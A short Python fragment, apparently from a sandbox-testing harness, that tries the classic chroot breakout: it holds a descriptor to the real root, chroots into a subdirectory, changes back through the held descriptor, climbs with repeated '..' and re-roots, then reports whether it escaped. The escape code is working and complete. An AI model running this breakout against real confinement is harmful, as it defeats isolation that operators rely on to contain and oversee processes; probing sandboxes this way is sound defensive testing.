# tries: chroot, and the classic way out of one
# why: CAP_SYS_CHROOT over a directory held open leads above the root
def climb():
    os.makedirs("cell", exist_ok=True)
    top = os.open("/", os.O_RDONLY)
    os.chroot("cell")
    os.fchdir(top)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return os.path.exists("/usr/bin/python3") and "out"

text, _ = child(climb)
(escaped if text == "out" else refused)("chroot", text)
